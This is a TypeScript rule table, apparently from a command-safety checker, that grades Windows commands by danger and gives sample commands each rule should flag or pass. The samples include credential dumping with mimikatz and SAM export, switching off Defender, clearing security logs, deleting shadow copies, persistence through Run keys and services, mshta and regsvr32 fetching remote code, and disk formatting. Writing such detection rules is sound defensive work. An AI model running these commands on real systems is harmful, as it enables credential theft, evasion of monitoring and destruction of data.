import { rule, type RuleTable } from '../model/rule';

/** Rules about Windows' own tools, whichever shell they are called from. */
export const windowsRules: RuleTable = {
  'registry.change': rule(
    'caution',
    'registry',
    'Changes the registry.',
    [{ shell: 'cmd', command: 'reg add HKCU\\Software\\A /v b /d c' }],
    { misses: [{ shell: 'cmd', command: 'reg query HKCU\\Software\\A' }] },
  ),
  'registry.delete': rule(
    'dangerous',
    'registry',
    'Deletes from the registry.',
    [{ shell: 'cmd', command: 'reg delete HKCU\\Software\\A /f' }],
    { misses: [{ shell: 'cmd', command: 'reg query HKCU\\Software\\A' }], remedy: 'save it first with `reg export`' },
  ),
  'registry.sensitive': rule(
    'dangerous',
    'persistence',
    'Changes a registry key that starts programs or protects the system.',
    [{ shell: 'cmd', command: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b.exe' }],
    { misses: [{ shell: 'cmd', command: 'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' }] },
  ),
  'windows.credential-dump': rule(
    'dangerous',
    'credential-access',
    'Copies passwords or password hashes of the system.',
    [
      { shell: 'cmd', command: 'reg save HKLM\\SAM sam.hiv' },
      { shell: 'cmd', command: 'mimikatz.exe sekurlsa::logonpasswords' },
    ],
    { misses: [{ shell: 'cmd', command: 'reg query HKLM\\SOFTWARE' }] },
  ),
  'windows.schedule': rule(
    'dangerous',
    'persistence',
    'Creates, changes or deletes a scheduled task.',
    [{ shell: 'cmd', command: 'schtasks /create /sc onlogon /tn a /tr b.exe' }],
    { misses: [{ shell: 'cmd', command: 'schtasks /query' }] },
  ),
  'windows.protection-off': rule(
    'dangerous',
    'defence-evasion',
    'Stops a service that protects or watches the machine.',
    [
      { shell: 'cmd', command: 'sc stop WinDefend' },
      { shell: 'cmd', command: 'net stop mpssvc' },
      { shell: 'cmd', command: 'fltmc unload SysmonDrv' },
      { shell: 'cmd', command: 'MpCmdRun.exe -RemoveDefinitions -All' },
      { shell: 'cmd', command: 'dism /online /disable-feature /featurename:Windows-Defender' },
    ],
    {
      misses: [
        { shell: 'cmd', command: 'fltmc filters' },
        { shell: 'cmd', command: 'dism /online /disable-feature /featurename:TelnetClient' },
        { shell: 'cmd', command: 'sc query WinDefend' },
        { shell: 'cmd', command: 'net stop Spooler' },
      ],
    },
  ),
  'windows.service-create': rule(
    'dangerous',
    'persistence',
    'Installs a program that runs by itself from now on, with system rights.',
    [
      { shell: 'cmd', command: 'sc create a binPath= C:\\b.exe' },
      { shell: 'pwsh', command: 'New-Service -Name a -BinaryPathName b.exe' },
    ],
    { misses: [{ shell: 'cmd', command: 'sc start a' }] },
  ),
  'windows.service-delete': rule(
    'dangerous',
    'service',
    'Deletes a service.',
    [{ shell: 'cmd', command: 'sc delete a' }],
    { misses: [{ shell: 'cmd', command: 'sc query' }] },
  ),
  'windows.account': rule(
    'dangerous',
    'account',
    'Changes users, groups or password rules.',
    [
      { shell: 'cmd', command: 'net user a b /add' },
      { shell: 'cmd', command: 'net localgroup administrators a /add' },
    ],
    {
      misses: [
        { shell: 'cmd', command: 'net user' },
        { shell: 'cmd', command: 'net localgroup administrators' },
      ],
    },
  ),
  'windows.share': rule(
    'dangerous',
    'network-config',
    'Shares folders of this machine or ends sessions.',
    [{ shell: 'cmd', command: 'net share a=C:\\' }],
    { misses: [{ shell: 'cmd', command: 'net share' }] },
  ),
  'windows.download': rule(
    'caution',
    'network',
    'Downloads with a system tool.',
    [{ shell: 'cmd', command: 'certutil -urlcache -f https://example.com/a a' }],
    { misses: [{ shell: 'cmd', command: 'certutil -hashfile a SHA256' }] },
  ),
  'windows.decode': rule(
    'dangerous',
    'obfuscation',
    'Decodes or copies hidden data with a system tool.',
    [{ shell: 'cmd', command: 'certutil -decode a.b64 a.exe' }],
    { misses: [{ shell: 'cmd', command: 'certutil -hashfile a' }] },
  ),
  'windows.lolbin': rule(
    'dangerous',
    'lolbin',
    'Runs code through a system tool in a way attacks do.',
    [
      { shell: 'cmd', command: 'mshta https://example.com/a.hta' },
      { shell: 'cmd', command: 'regsvr32 /s /u /i:https://example.com/a.sct scrobj.dll' },
    ],
    {
      misses: [{ shell: 'cmd', command: 'rundll32 /?' }],
      effect: 'execute',
      scope: 'system',
      reversibility: 'unknown',
    },
  ),
  'windows.access-wide': rule(
    'dangerous',
    'permissions',
    'Changes access to many files or to system folders.',
    [
      { shell: 'cmd', command: 'icacls C:\\ /grant Everyone:F /T' },
      { shell: 'cmd', command: 'takeown /f C:\\Windows /r' },
    ],
    { misses: [{ shell: 'cmd', command: 'icacls a.txt' }] },
  ),
  'windows.mirror': rule(
    'dangerous',
    'filesystem-destroy',
    'Deletes at the target whatever is not in the source, or the source itself.',
    [{ shell: 'cmd', command: 'robocopy C:\\a D:\\b /MIR' }],
    {
      misses: [
        { shell: 'cmd', command: 'robocopy a b /L /MIR' },
        { shell: 'cmd', command: 'robocopy a b /E' },
      ],
      remedy: 'run it with `/L` first',
    },
  ),
  'windows.backup-delete': rule(
    'critical',
    'disk',
    'Deletes the backups and shadow copies of the machine.',
    [
      { shell: 'cmd', command: 'vssadmin delete shadows /all' },
      { shell: 'cmd', command: 'wbadmin delete catalog -quiet' },
    ],
    { misses: [{ shell: 'cmd', command: 'vssadmin list shadows' }] },
  ),
  'windows.volume': rule(
    'dangerous',
    'disk',
    'Changes a volume below its files.',
    [
      { shell: 'cmd', command: 'fsutil usn deletejournal /d c:' },
      { shell: 'cmd', command: 'convert D: /fs:ntfs' },
    ],
    {
      misses: [
        { shell: 'cmd', command: 'fsutil fsinfo drives' },
        { shell: 'cmd', command: 'chkdsk C:' },
      ],
    },
  ),
  'windows.format': rule(
    'critical',
    'disk',
    'Formats or wipes a disk.',
    [
      { shell: 'cmd', command: 'format C: /y' },
      { shell: 'cmd', command: 'diskpart /s a.txt' },
    ],
    { misses: [{ shell: 'cmd', command: 'format /?' }] },
  ),
  'windows.boot': rule(
    'dangerous',
    'boot-recovery',
    'Changes how Windows starts or recovers.',
    [
      { shell: 'cmd', command: 'bcdedit /set {default} recoveryenabled no' },
      { shell: 'cmd', command: 'reagentc /disable' },
    ],
    {
      misses: [
        { shell: 'cmd', command: 'bcdedit /enum' },
        { shell: 'cmd', command: 'bcdedit' },
      ],
    },
  ),
  'windows.log': rule(
    'dangerous',
    'defence-evasion',
    'Clears or switches off logs and auditing.',
    [
      { shell: 'cmd', command: 'wevtutil cl Security' },
      { shell: 'cmd', command: 'auditpol /clear /y' },
    ],
    {
      misses: [
        { shell: 'cmd', command: 'wevtutil qe System' },
        { shell: 'cmd', command: 'auditpol /get /category:*' },
      ],
    },
  ),
  'windows.wipe': rule(
    'critical',
    'disk',
    'Overwrites free space or encrypts files.',
    [{ shell: 'cmd', command: 'cipher /w:C:' }],
    { misses: [{ shell: 'cmd', command: 'cipher /c a' }] },
  ),
};
